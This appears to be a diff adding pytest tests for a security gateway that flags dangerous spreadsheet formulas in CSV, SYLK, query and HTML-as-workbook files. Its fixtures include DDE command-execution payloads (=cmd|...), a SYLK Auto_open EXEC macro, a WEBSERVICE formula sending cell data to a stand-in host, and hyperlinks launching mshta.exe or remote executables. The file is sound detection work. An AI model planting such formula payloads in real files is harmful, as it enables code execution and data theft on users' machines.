@@ -1,0 +1,93 @@
+from __future__ import annotations
+
+import pytest
+
+from gateway.extract.base import Node
+from gateway.extract.workbook.formulas import DATABASE, FORMULAS, QUERY
+from gateway.model.artifact import Artifact, ArtifactKind
+from gateway.model.content import Observation
+from tests.builders.archives import codes, take_apart
+from tests.builders.growth import linear
+
+
+@pytest.mark.parametrize("text", [
+    "a,b\r\n=cmd|'/c rem'!A0,1\r\n", '"@SUM(1+1)*cmd|\' /C rem\'!A0"\r\n', "=MSEXCEL|'\\..\\..\\cmd.exe /c rem'!''", "1,+cmd|' /C rem'!'A1'\n",
+    "x;-2+3+cmd|' /C rem'!D2", '=DDE("cmd";"/C rem";"!A0")|x!'
+])
+def test_dde_in_tables(text: str) -> None:
+    assert "FORMULA-DDE" in codes(list(take_apart(FORMULAS, text.encode(), "a.csv", kind="text/csv")))
+    assert "FORMULA-DDE" in codes(list(take_apart(FORMULAS, text.encode("utf-16"), "a.csv", kind="text/csv")))
+
+
+@pytest.mark.parametrize("text", [
+    "name,phone\n王小明,+886-912-345-678\n", "a|b|c\n-1|2|3!\n", "=SUM(A1:A3)\n", "@user,hello | world!\n", "a,=1+1\n", "- item | cmd prompt\n",
+    "-5,100|200,wow!\n",
+])
+def test_ordinary_tables(text: str) -> None:
+    assert codes(list(take_apart(FORMULAS, text.encode(), "a.csv", kind="text/csv"))) == set()
+
+
+def test_prose_may_quote_formulas() -> None:
+    text = b"The cell was =cmd|'/c rem'!A0 as reported"
+    assert codes(list(take_apart(FORMULAS, text, kind="text/plain"))) == set()
+
+
+def test_query_files_and_calls() -> None:
+    assert codes(list(take_apart(FORMULAS, b"WEB\r\n1\r\nhttp://h.example/q\r\n", "a.iqy", kind="text/plain"))) == {"FORMULA-QUERY"}
+    assert "FORMULA-CALL" in codes(list(take_apart(FORMULAS, b'a,=WEBSERVICE("http://h.example/"&A1)\n', "a.csv", kind="text/csv")))
+
+
+def test_sylk() -> None:
+    data = b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC(\"cmd\")\r\nE\r\n"
+    assert {"XLM-AUTO-NAME", "XLM-SHEET", "XLM-CALL"} <= codes(list(take_apart(FORMULAS, data, "a.slk", kind="text/plain")))
+    assert codes(list(take_apart(FORMULAS, b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nC;X2;ER[1]C*2\r\nE\r\n", "a.slk", kind="text/plain"))) == set()
+
+
+def test_long_tables_are_linear() -> None:
+    assert codes(list(take_apart(FORMULAS, b"=a|b" * 250_000, "a.csv", kind="text/csv"))) is not None
+    assert codes(list(take_apart(FORMULAS, b"+,|" * 300_000 + b"!", "a.csv", kind="text/csv"))) is not None
+
+
+def test_html_under_the_name_of_a_workbook() -> None:
+    page = b"<html><table><tr><td>=cmd|'/c rem'!A0</td></tr></table></html>"
+    assert "FORMULA-DDE" in codes(list(take_apart(FORMULAS, page, "a.xls", kind="text/html")))
+    assert codes(list(take_apart(FORMULAS, b"<html><td>a | b! cmd</td></html>", "a.xls", kind="text/html"))) == set()
+
+
+@pytest.mark.parametrize("head", [b"WEB", b"XLODBC", b"WEB\n1"])
+def test_lines_before_a_query_are_read_once(head: bytes) -> None:
+    assert linear(lambda data: (QUERY.match(data), DATABASE.match(data)), lambda n: head + b"\r\n" * n, 1_500)
+
+
+@pytest.mark.parametrize(("data", "address"), [(b" WEB \r\n\r\n 1 \n http://h.example/", b"http://h.example/"), (b"web\r1\r\\\\h\\s", b"\\\\h\\s"), (b"WEB 1\nx", None)])
+def test_queries_with_lines_between(data: bytes, address: bytes | None) -> None:
+    found = QUERY.match(data)
+    assert (found[1] if found else None) == address
+
+
+@pytest.mark.parametrize(("cell", "held"), [
+    ("=notepad|'/c x'!A0", True), ("=IF(1,odbcad32|'x' !A0)", True), ("=\"a\"&foo|'x'!B1", True), ("|'x'!A0", False), ("-5 | 'a' | note!", False), ("=A1|B1", False),
+])
+def test_any_service_may_be_called(cell: str, held: bool) -> None:
+    found = {o.code for o in take_apart(FORMULAS, f"name;sum\n{cell};1\n".encode(), "a.csv", kind="text/csv") if isinstance(o, Observation)}
+    assert ("FORMULA-DDE" in found) == held
+
+
+def test_tables_with_noise_behind_them() -> None:
+    data = b"a;b\n=cmd|'/c x'!A0;1\n" + bytes(range(256)) * 9
+    assert [o.code for o in take_apart(FORMULAS, data, "a.csv", kind="application/octet-stream") if isinstance(o, Observation)] == ["FORMULA-DDE"]
+    node = Node(Artifact(0, None, ArtifactKind.PART, ("a.bin",)), data, "application/octet-stream")
+    assert not FORMULAS.claims(node) and FORMULAS.claims(Node(node.artifact, b"ID;P\n" + bytes(9), "application/octet-stream"))
+
+
+@pytest.mark.parametrize(("cell", "code"), [
+    ('"=HYPERLINK(""file://192.0.2.1/s/a.exe"",""open"")"', "DOC-LINK-PROGRAM"), ("=hyperlink(\"C:\\Windows\\System32\\mshta.exe http://h\")", "DOC-LINK-PROGRAM"),
+    ('"=IF(1,HYPERLINK(""search-ms:query=a""),2)"', "DOC-LINK-SCHEME"), ('=IMAGE("\\\\h.example\\s\\a.png")', "DOC-EXTERNAL-SHARE"),
+    ('"=HYPERLINK(""https://www.example.com/a"",""a"")"', ""), ('see HYPERLINK("file://192.0.2.1/s/a.exe")', ""), ('=HYPERLINK("report.xlsx")', ""), ('=IMAGE("https://h.example/a.png")', ""),
+])
+def test_links_of_tables(cell: str, code: str) -> None:
+    assert codes(list(take_apart(FORMULAS, f"name,link\r\na,{cell}\r\n".encode(), "a.csv", kind="text/csv"))) == ({code} if code else set())
+
+
+def test_many_links_are_judged_in_one_pass() -> None:
+    assert linear(lambda data: list(take_apart(FORMULAS, data, "a.csv", kind="text/csv")), lambda n: b'x,=HYPERLINK("https://h.example/a","b")\n' * n, 1_500)
